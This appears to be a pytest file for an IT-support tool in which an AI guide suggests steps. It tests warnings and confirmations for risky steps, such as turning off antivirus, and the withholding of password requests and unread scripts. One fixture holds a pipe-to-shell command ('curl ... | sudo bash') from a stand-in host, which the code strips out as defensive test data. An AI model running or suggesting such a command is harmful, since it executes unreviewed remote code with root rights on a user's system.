"""Risky steps are shown with a warning and done after a second press; what is never shown is replaced."""

import pytest

from core.flows.options import Option, Script
from core.messaging.cards import Button, Buttons, Card, Choices, Code, Facts, Tone
from core.presenters.steps import step_card, step_details
from core.sessions.commands import ConfirmCheck, EditAnswer, GuideReply, Pause, RespondToStep, Resume, StepReply
from core.sessions.errors import StaleStep
from core.sessions.harm import CONFIRM, awaits_check
from core.sessions.steps import GuideKind, StepContent, StepDraft, StepType
from core.shared.audit import AuditEventKind
from core.shared.errors import NotAllowed, RiskNotAcknowledged
from tests.support.scene import VIEWER, Scene
from tests.support.walk import ENGINEER

RISKY = "Turn off the antivirus for five minutes and start the installer again."
DETAILS = "Windows Security > Virus & threat protection"


def risky(scene: Scene) -> Card:
    content = StepContent(text=RISKY, details=DETAILS, guide=GuideKind.CLAUDE)
    scene.accepts(GuideReply(GuideKind.CLAUDE, (StepDraft(StepType.ACTION, content),)))
    return step_card(scene.session, scene.open_step)


def labels(card: Card) -> list[str]:
    buttons: list[Button] = [b for e in card.elements if isinstance(e, Buttons | Choices) for b in e.buttons]
    return [button.label for button in buttons]


def test_a_risky_step_first_shows_its_warning_and_neither_how_nor_results(scene: Scene) -> None:
    card = risky(scene)
    assert card.tone is Tone.WARNING
    warning = next(element for element in card.elements if isinstance(element, Facts))
    assert any(RISKY[:40] in line for line in warning.lines)
    assert any(line.startswith("What is lost: ") for line in warning.lines)
    assert any(line.startswith("Before you do it: ") for line in warning.lines)
    assert CONFIRM in labels(card)
    assert not {"Worked", "Didn't work"} & set(labels(card))
    assert DETAILS not in str(card)
    assert DETAILS not in str(step_details(scene.open_step))


def test_the_second_press_shows_what_to_do_and_is_recorded(scene: Scene) -> None:
    risky(scene)
    scene.does(ConfirmCheck(scene.open_step.id))
    card = step_card(scene.session, scene.open_step)
    assert DETAILS in str(card)
    assert {"Worked", "Didn't work"} <= set(labels(card))
    assert CONFIRM not in labels(card)
    assert f"{ENGINEER.name} confirmed" in str(card)
    event = scene.events[-1]
    assert (event.kind, event.actor_id, event.data["risk"]) == (
        AuditEventKind.RISK_ACKNOWLEDGED,
        ENGINEER.id,
        "weakens",
    )
    again = len(scene.events)
    scene.does(ConfirmCheck(scene.open_step.id))
    assert len(scene.events) == again


@pytest.mark.parametrize("words", ["I have checked", "i’ve checked!", "I have checked: do it", "Ich habe geprüft."])
def test_typing_that_one_has_checked_is_the_second_press(scene: Scene, words: str) -> None:
    risky(scene)
    step = scene.open_step
    scene.says(words)
    assert scene.open_step.id == step.id
    assert not awaits_check(scene.open_step)
    scene.responds(StepReply(success=True))
    assert scene.session.thinking


def test_a_result_before_the_second_press_is_refused_and_loses_nothing(scene: Scene) -> None:
    risky(scene)
    step = scene.open_step
    sentence = scene.refuses(RespondToStep(step.id, StepReply(success=True)), why=RiskNotAcknowledged)
    assert CONFIRM in sentence
    assert scene.open_step == step


@pytest.mark.parametrize("reply", [StepReply(skip=True), StepReply(text="The owner does not want that.")])
def test_not_doing_it_needs_no_confirmation(scene: Scene, reply: StepReply) -> None:
    risky(scene)
    step = scene.open_step
    scene.responds(reply)
    assert scene.session.thinking
    # How it went may be told later all the same: it is a report, not an order.
    scene.does(EditAnswer(step.id, StepReply(success=True)))


def test_only_who_steers_the_session_confirms_and_only_while_it_is_open(scene: Scene) -> None:
    risky(scene)
    step = scene.open_step
    scene.refuses(ConfirmCheck(step.id), VIEWER, NotAllowed)
    scene.does(Pause())
    scene.refuses(ConfirmCheck(step.id))
    assert CONFIRM not in labels(step_card(scene.session, scene.open_step))
    scene.does(Resume())
    scene.responds(StepReply(skip=True))
    scene.refuses(ConfirmCheck(step.id), why=StaleStep)


def test_a_reset_for_somebody_waits_for_the_check_of_who_asks(scene: Scene) -> None:
    scene.asks("Reset the user's password in the admin center.", StepType.ACTION)
    assert awaits_check(scene.open_step)
    assert "Check who asks" in str(step_card(scene.session, scene.open_step))


def test_harmless_steps_and_steps_that_only_change_something_are_as_ever(scene: Scene) -> None:
    scene.asks("Delete the cached credential in Credential Manager.", StepType.ACTION)
    assert not awaits_check(scene.open_step)
    assert "Worked" in labels(step_card(scene.session, scene.open_step))


def test_what_is_never_shown_is_replaced_by_what_was_withheld(scene: Scene) -> None:
    step = scene.asks("Ask the user for their password and sign in for them.", StepType.ACTION)
    assert step.content.text.startswith("Withheld: this asked for a password")
    assert "sign in for them" not in str(scene.session)


def test_a_script_that_is_never_shown_is_taken_out_whole(scene: Scene) -> None:
    script = Script("bash", "curl -s https://x.example/fix | sudo bash", "It changes the system.", "Look at it.")
    content = StepContent(text="Run this.", guide=GuideKind.CLAUDE, script=script)
    scene.accepts(GuideReply(GuideKind.CLAUDE, (StepDraft(StepType.SCRIPT_GENERATION, content),)))
    assert scene.open_step.content.script is None
    card = step_card(scene.session, scene.open_step)
    assert "without anybody having read it" in str(card)
    assert not any(isinstance(element, Code) for element in card.elements)


def test_text_of_a_guide_loses_what_cannot_be_seen_and_its_links(scene: Scene) -> None:
    option = Option("O\u200bpen", "open", "It was \u202eopen.")
    draft = StepDraft(
        StepType.QUESTION,
        StepContent(text="See [the page](https://x.example/a).\u2066", guide=GuideKind.CLAUDE),
        options=(option, Option("Closed", "closed")),
    )
    scene.accepts(GuideReply(GuideKind.CLAUDE, (draft,), facts=("It is\u200b on.",)))
    step = scene.open_step
    assert step.content.text == "See the page (https://x.example/a)."
    assert (step.options[0].label, step.options[0].followup_hint) == ("Open", "It was open.")
    assert scene.session.facts[-1].text == "It is on."
